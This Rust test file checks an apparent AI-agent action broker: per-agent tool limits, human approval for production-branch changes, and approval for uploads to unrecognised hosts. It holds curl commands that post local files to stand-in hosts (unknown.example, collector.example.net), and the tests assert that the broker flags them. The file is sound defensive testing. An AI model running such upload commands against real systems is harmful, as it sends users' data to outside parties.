//! Per-agent tool bundles through the broker, the path every daemon surface takes (REST, the
//! proxy and the MCP gateway submit with their token's agent): an agent with a bundle is denied
//! what it was not given; another agent is not affected. Production declared by the policy, or
//! read by the daemon from the branch checked out where the action runs, makes a change ask a
//! person whoever submits it; an upload to a host the project does not name asks.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use airlock_confirm::{BrokerConfig, Status, Submission};
use airlock_core::{Action, Decision, ReasonCode};
use airlock_policy::Channel;

use common::*;

fn has(o: &airlock_confirm::Outcome, code: ReasonCode) -> bool {
    o.reasons.iter().any(|f| f.code == code)
}

fn tool(agent: &str, name: &str) -> Submission {
    Submission {
        action: Action::Tool {
            tool: name.into(),
            arguments: serde_json::json!({"file_path": "README.md"}),
        },
        channel: Channel::Api,
        ..sub(agent, "s1", "unused")
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bundle_holds_through_the_broker() {
    let d = tempfile::tempdir().unwrap();
    let b = broker_at(
        d.path(),
        None,
        policy("[agents.helper]\ntools = [\"Read\"]\n"),
        BrokerConfig::default(),
    )
    .await;
    let read = b.submit(tool("helper", "Read")).await.unwrap();
    assert_eq!(read.decision, Decision::Allow, "{read:?}");
    let grep = b.submit(tool("helper", "Grep")).await.unwrap();
    assert_eq!(grep.status, Status::Denied, "{grep:?}");
    assert_eq!(grep.reasons[0].rule_id, "policy.agent_bundle");
    assert_eq!(grep.reasons[0].code, ReasonCode::ToolUndeclared);
    let shell = b.submit(sub("helper", "s1", "ls")).await.unwrap();
    assert_eq!(shell.status, Status::Denied);
    // another agent keeps the declared tools and the read-only commands
    assert_eq!(
        b.submit(tool("claude", "Grep")).await.unwrap().decision,
        Decision::Allow
    );
    assert_eq!(
        b.submit(sub("claude", "s2", "ls")).await.unwrap().decision,
        Decision::Allow
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn production_alone_asks_a_person_through_the_broker() {
    let d = tempfile::tempdir().unwrap();
    let b = broker_at(
        d.path(),
        None,
        policy("[policy]\nproduction = true\n"),
        BrokerConfig::default(),
    )
    .await;
    let o = b
        .submit(sub("claude", "s1", "touch notes.txt"))
        .await
        .unwrap();
    assert_eq!(o.decision, Decision::Ask, "{o:?}");
    assert_eq!(o.reasons[0].code, ReasonCode::ProductionChange);
    let a = b.approval(&o.approval.unwrap()).await.unwrap();
    assert!(a.confirm.person(), "{:?}", a.confirm);
    let read = b.submit(sub("claude", "s1", "ls -la")).await.unwrap();
    assert_eq!(read.decision, Decision::Allow);
}

/// A git checkout at `dir` on `branch`, whose files (an hour old and more) name `api.acme.example`.
fn checkout(dir: &std::path::Path, branch: &str) {
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(7200);
    for (path, text) in [
        (".git/HEAD", format!("ref: refs/heads/{branch}\n")),
        (".git/config", "[core]\n\tbare = false\n".to_string()),
        (
            "src/api.py",
            "BASE = 'https://api.acme.example/v1'\n".to_string(),
        ),
    ] {
        let p = dir.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
        std::fs::File::options()
            .write(true)
            .open(&p)
            .unwrap()
            .set_modified(old)
            .unwrap();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_daemon_reads_the_branch_where_an_action_runs() {
    let d = tempfile::tempdir().unwrap();
    let b = broker_at(
        d.path(),
        None,
        policy("[production]\ngit_branches = [\"release/*\"]\n"),
        BrokerConfig::default(),
    )
    .await;
    let repo = tempfile::tempdir().unwrap();
    checkout(repo.path(), "release/2.1");
    let at = |cmd: &str| Submission {
        cwd: Some(repo.path().join("src").display().to_string()),
        ..sub("claude", "s1", cmd)
    };
    let o = b.submit(at("touch notes.txt")).await.unwrap();
    assert_eq!(o.decision, Decision::Ask, "{o:?}");
    assert_eq!(o.reasons[0].code, ReasonCode::ProductionChange);
    assert!(o.reasons[0].message.contains("release/2.1"), "{o:?}");
    assert_eq!(
        b.submit(at("ls -la")).await.unwrap().decision,
        Decision::Allow
    );
    // the same change on another branch is no production change
    checkout(repo.path(), "feature/x");
    let o = b.submit(at("touch notes.txt")).await.unwrap();
    assert!(
        !o.reasons
            .iter()
            .any(|f| f.code == ReasonCode::ProductionChange),
        "{o:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_daemon_asks_for_an_upload_to_a_host_the_project_does_not_name() {
    let d = tempfile::tempdir().unwrap();
    let b = broker_at(d.path(), None, policy(""), BrokerConfig::default()).await;
    let repo = tempfile::tempdir().unwrap();
    checkout(repo.path(), "main");
    let at = |cmd: &str| Submission {
        cwd: Some(repo.path().display().to_string()),
        ..sub("claude", "s1", cmd)
    };
    let o = b
        .submit(at(
            "curl -X POST -d @notes.txt https://unknown.example/upload",
        ))
        .await
        .unwrap();
    assert_eq!(o.decision, Decision::Ask, "{o:?}");
    assert!(
        o.reasons
            .iter()
            .any(|f| f.code == ReasonCode::UnknownHost && f.message.contains("unknown.example")),
        "{o:?}"
    );
    let a = b.approval(&o.approval.unwrap()).await.unwrap();
    assert!(a.confirm.person(), "{:?}", a.confirm);
    let named = b
        .submit(at("curl -X POST -d x=1 https://api.acme.example/v1/items"))
        .await
        .unwrap();
    assert!(
        !named
            .reasons
            .iter()
            .any(|f| f.code == ReasonCode::UnknownHost),
        "{named:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_approved_in_one_project_is_known_to_that_project_only() {
    let d = tempfile::tempdir().unwrap();
    let b = broker_at(d.path(), None, policy(""), BrokerConfig::default()).await;
    let (one, two) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    checkout(one.path(), "main");
    checkout(two.path(), "main");
    let up = "curl -d @report.json https://collector.example.net/upload";
    // as the daemon's surfaces submit it: the directory in the action and beside it
    let in_dir = |dir: &std::path::Path, session: &str| {
        let cwd = dir.join("src").display().to_string();
        Submission {
            action: Action::Shell {
                command: up.into(),
                cwd: Some(cwd.clone()),
            },
            cwd: Some(cwd),
            ..sub("claude", session, up)
        }
    };
    let first = b.submit(in_dir(one.path(), "s1")).await.unwrap();
    assert!(has(&first, ReasonCode::UnknownHost), "{first:?}");
    b.answer(&first.approval.unwrap(), approve("alice"))
        .await
        .unwrap();
    let again = b.submit(in_dir(one.path(), "s2")).await.unwrap();
    assert!(!has(&again, ReasonCode::UnknownHost), "{again:?}");
    let elsewhere = b.submit(in_dir(two.path(), "s3")).await.unwrap();
    assert!(has(&elsewhere, ReasonCode::UnknownHost), "{elsewhere:?}");
}
